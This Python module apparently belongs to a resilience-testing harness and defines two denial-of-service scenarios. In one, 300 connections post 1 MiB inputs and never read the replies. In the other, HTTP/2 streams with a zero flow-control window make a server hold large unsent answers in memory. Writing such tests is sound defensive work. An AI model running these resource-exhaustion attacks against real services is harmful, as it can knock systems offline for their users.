"""A tenant that sends large inputs, and reads none of the large answers. To read the inputs is most of the cost."""

import asyncio

from aim import Aim, Attack
from http2_frames_kit import DATA, END_STREAM, OPENING, SETTINGS, frame, head
from stage import ENCRYPTED, KEYED

LARGE = b'{"input": "%s"}' % (b"x" * (2**20 - 100))
NO_WINDOW = (4).to_bytes(2, "big") + (0).to_bytes(4, "big")  # SETTINGS_INITIAL_WINDOW_SIZE
KEEPS = 48 * 2**20  # the two processes of the function keep room for their next large batch


async def unread(aim: Aim) -> None:
    request = aim.post(LARGE)
    few = asyncio.Semaphore(4)

    async def one() -> None:
        _, writer = await aim.open()
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        async with few:
            writer.write(request)
            await writer.drain()
            await asyncio.sleep(0.02)
        await asyncio.sleep(60)

    await aim.crowd(300, one)


async def behind_windows(aim: Aim) -> None:
    """Answers of 1 MiB on 200 streams whose windows stay shut."""

    async def one() -> None:
        reader, writer = await aim.open("h2")
        writer.write(OPENING + frame(SETTINGS, 0, 0, NO_WINDOW))
        swallowing = asyncio.create_task(reader.read())
        try:
            for stream in range(1, 401, 2):
                writer.write(head(stream, key=aim.key))
                for at in range(0, len(LARGE), 16_000):
                    last = at + 16_000 >= len(LARGE)
                    writer.write(frame(DATA, END_STREAM if last else 0, stream, LARGE[at : at + 16_000]))
                await writer.drain()
                aim.tally["streams"] += 1
                await asyncio.sleep(0.02)
            await swallowing
        finally:
            swallowing.cancel()
            writer.transport.abort()

    await aim.crowd(2, one)


EXECUTED = Attack(
    "unread answers", "A tenant asks for 300 answers of 1 MiB, and reads none.", unread, KEYED, keeps=KEEPS
)
WINDOWS = Attack(
    "HTTP/2: unread answers",
    "A tenant asks for 400 answers of 1 MiB with its windows shut.",
    behind_windows,
    ENCRYPTED,
    keeps=KEEPS,
)
